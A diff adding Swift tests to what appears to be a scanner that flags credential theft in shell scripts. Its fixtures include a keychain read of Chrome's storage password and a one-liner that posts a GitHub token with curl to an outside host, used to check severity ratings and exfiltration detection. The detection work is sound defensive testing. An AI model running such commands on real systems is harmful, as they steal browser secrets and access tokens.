@@ -638,3 +638,29 @@ extension ExfiltrationBehaviourTests {
     #expect(found.allSatisfy { $0.chain == nil && $0.message.contains("localhost") }, "a send to the local machine is reported, never a chain")
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test(
+    "A vendor CLI's own token handed to that vendor's tools is low; a keychain read stays high",
+    arguments: [
+      "export GITHUB_TOKEN=$(gh auth token)\n",
+      "gh auth token | docker login ghcr.io -u \"$GH_USER\" --password-stdin\n",
+      "TOKEN=$(gcloud auth print-access-token)\n",
+    ])
+  func vendorTokenIsUse(script: String) throws {
+    let found = try #require(try findings("credential-store-read", Example(script, language: .shell)).first)
+    #expect(found.severity == .low)
+    #expect(found.message.hasPrefix("uses the "))
+    let keychain = try #require(
+      try findings("credential-store-read", Example("security find-generic-password -s 'Chrome Safe Storage' -w\n", language: .shell)).first)
+    #expect(keychain.severity == .high)
+  }
+
+  @Test("A vendor token sent to another host is still a credential flow")
+  func vendorTokenSentAway() throws {
+    let found = try findings(
+      "exfil-flow-credentials",
+      Example("T=$(gh auth token)\ncurl -s -d \"t=$T\" https://collect.drop-box-sync.net/u\n", language: .shell))
+    #expect(found.first?.chain == .exfiltration)
+  }
+}
